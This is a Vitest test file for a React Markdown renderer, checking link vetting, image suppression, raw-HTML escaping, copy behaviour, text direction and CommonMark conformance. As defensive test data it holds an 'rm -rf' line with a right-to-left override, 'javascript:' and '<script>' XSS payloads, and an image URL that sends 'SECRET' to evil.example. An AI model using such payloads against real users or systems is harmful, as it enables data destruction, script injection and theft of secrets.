// @vitest-environment jsdom
/// <reference types="node" />
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { act } from "react";
import { createRoot } from "react-dom/client";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeEach, expect, test, vi } from "vitest";
import { Markdown } from "#ui/markdown/markdown.tsx";
import { type MarkdownParts, MarkdownPartsContext } from "#ui/markdown/markdown-parts.ts";
import { vetLink } from "#ui/markdown/vet-link.ts";

const data = process.env.TERANCE_DATA ?? join(import.meta.dirname, "../../../shared/data");
const words = {
  copyCode: "Copy",
  copied: "Copied",
  code: "Code",
  image: "Image",
  notShown: "{count} more",
  taskDone: "Done",
  taskOpen: "Open",
};
const copyText = vi.fn(async () => undefined);
const parts: MarkdownParts = { words, copyText, renderCitation: (block) => <sup>{block}</sup> };

beforeEach(() => {
  vi.stubGlobal("IS_REACT_ACT_ENVIRONMENT", true);
  copyText.mockClear();
});

test("renders headings below the panel's own, lists, tables and tasks", () => {
  const view = show("# A\n\n- one\n  - two\n- [x] done\n\n| a | b |\n|---|--:|\n| 1 | 2 |");

  expect(view.querySelector("h3")?.textContent).toBe("A");
  expect(view.querySelector("ul ul li")?.textContent).toBe("two");
  expect(view.querySelector("input")?.getAttribute("aria-label")).toBe("Done");
  expect(view.querySelector("td:last-child")?.getAttribute("style")).toBe("text-align:right");
});

test("copies code exactly as it is shown, without a line feed at the end", async () => {
  const root = document.createElement("div");
  await act(async () => createRoot(root).render(page("```sh\nrm -rf \u202etxt\n```\n")));

  await act(async () => root.querySelector("button")?.click());

  expect(copyText).toHaveBeenCalledWith("rm -rf ⟦U+202E⟧txt");
  expect(root.querySelector("pre")?.textContent).toBe("rm -rf ⟦U+202E⟧txt");
});

test("opens vetted links only, in a new tab, with the whole address as title", () => {
  const view = show("[a](https://example.org/x?y=1) [b](javascript:alert(1)) <https://example.org/>");

  const [link, auto] = view.querySelectorAll("a");
  expect(link?.getAttribute("title")).toBe("https://example.org/x?y=1");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  expect(link?.getAttribute("target")).toBe("_blank");
  expect(auto?.textContent).toBe("https://example.org/");
  expect(view.querySelectorAll("a")).toHaveLength(2);
});

test("shows an image as words and loads nothing", () => {
  const view = show("![secret](https://evil.example/?d=SECRET)\n\n![ref][1]\n\n[1]: https://evil.example/2");

  expect(view.querySelector("img, picture, source, video")).toBeNull();
  expect(view.textContent).toContain("https://evil.example/?d=SECRET");
});

test("shows raw HTML as text", () => {
  const view = show("<script>alert(1)</script>\n\na <b onclick=x>bold</b> word<br>next");

  expect(view.textContent).toContain("<script>alert(1)</script>");
  expect(view.textContent).toContain("<b onclick=x>bold</b>");
  expect(view.querySelector("b, script")).toBeNull();
  expect(view.querySelector("br")).not.toBeNull();
});

test("gives each paragraph its own direction and keeps code left to right", () => {
  const view = show("مرحبا بالعالم\n\nHello\n\n```\nx\n```");

  const [arabic, english] = view.querySelectorAll("p");
  expect(arabic?.dir).toBe("rtl");
  expect(english?.dir).toBe("ltr");
  expect(view.querySelector<HTMLElement>(".md-code")?.dir).toBe("ltr");
});

test("hides the first half of a citation mark while it arrives", () => {
  expect(show("Built in 1887.[b1", true).textContent).toBe("Built in 1887.");
  expect(show("Built in 1887.[b12]", true).querySelector("sup")?.textContent).toBe("b12");
});

const xss = join(data, "security/xss.txt");

test.skipIf(!existsSync(xss))(
  "turns no payload into anything but allowed elements",
  () => {
    const allowed =
      /^(div|p|span|h3|h4|h5|h6|ul|ol|li|table|thead|tbody|tr|th|td|pre|code|blockquote|hr|br|em|strong|del|a|input|button|sup|svg|path|rect)$/;
    const payloads = readFileSync(xss, "utf8").split("\n").filter(Boolean);

    for (const payload of payloads) {
      const forms = [
        payload,
        `[x](${payload})`,
        `![x](${payload})`,
        `\`\`\`${payload}\n${payload}`,
        `|a|\n|-|\n|${payload}|`,
      ];
      const elements = show(forms.join("\n\n")).querySelectorAll("*");
      for (const element of elements) {
        expect(element.localName).toMatch(allowed);
        expect(faultsOf(element), payload).toEqual([]);
      }
    }
    expect(payloads.length).toBeGreaterThan(1_000);
  },
  120_000,
);

// What differs: entities beyond HTML 4, and bare addresses, which GFM links and CommonMark does not.
const suites: [string, number][] = [
  ["commonmark-0.31.json", 0.985],
  ["gfm-0.29-extensions.json", 1],
];

test.skipIf(!existsSync(data)).each(suites)(
  "agrees with the cases of %s that hold no raw HTML and no image",
  (file, least) => {
    const path = join(data, "markdown", file);
    const cases: { markdown: string; html: string }[] = JSON.parse(readFileSync(path, "utf8"));
    const plain = cases.filter(
      ({ html, markdown }) =>
        !/<(img|script|style|del>\*)|<!--|<\?|<!\[/.test(html) && !/<[/a-z!?]/i.test(markdown),
    );

    const passed = plain.filter(({ markdown, html }) => {
      const container = document.createElement("div");
      container.append(...new DOMParser().parseFromString(html, "text/html").body.childNodes);
      return outlineOf(show(markdown)) === outlineOf(container);
    });

    process.stdout.write(`${file}: ${passed.length} of ${plain.length} agree (${cases.length} in all)\n`);
    expect(passed.length / plain.length).toBeGreaterThanOrEqual(least);
  },
  60_000,
);

function page(text: string, isStreaming = false) {
  return (
    <MarkdownPartsContext value={parts}>
      <Markdown text={text} isStreaming={isStreaming} />
    </MarkdownPartsContext>
  );
}

function show(text: string, isStreaming = false): HTMLElement {
  const html = renderToStaticMarkup(page(text, isStreaming));
  const view = document.createElement("div");
  view.append(...new DOMParser().parseFromString(html, "text/html").body.childNodes);
  return view;
}

function faultsOf(element: Element): string[] {
  return [...element.attributes].flatMap(({ name, value }) => {
    if (
      name.startsWith("on") ||
      ["src", "srcset", "srcdoc", "action", "formaction", "xlink:href"].includes(name)
    ) {
      return [`${name}=${value}`];
    }
    return name === "href" && !/^(https?:\/\/|mailto:)/.test(value) ? [`href=${value}`] : [];
  });
}

// The structure both renderers must agree on, white space aside: ours adds wrappers and labels, lowers headings
// and gives an address only to links it has vetted.
function outlineOf(node: Node): string {
  if (node.nodeType === 3) return (node.textContent ?? "").replace(/\s+/g, "");
  if (!(node instanceof Element) || node.matches(".md-code-bar")) return "";
  const inside = [...node.childNodes].map(outlineOf).join("");
  if (["span", "div", "tbody", "thead"].includes(node.localName)) return inside;
  if (node.localName === "p" && node.closest("li")) return inside;
  const name = node.localName.replace(/^h[1-6]$/, "h");
  if (name !== "a")
    return `<${name} ${node.getAttribute("start")?.replace(/^1$/, "") ?? ""}>${inside}</${name}>`;
  const href = vetLink(node.getAttribute("href") ?? "");
  return href === undefined ? inside : `<a ${href}>${inside}</a>`;
}
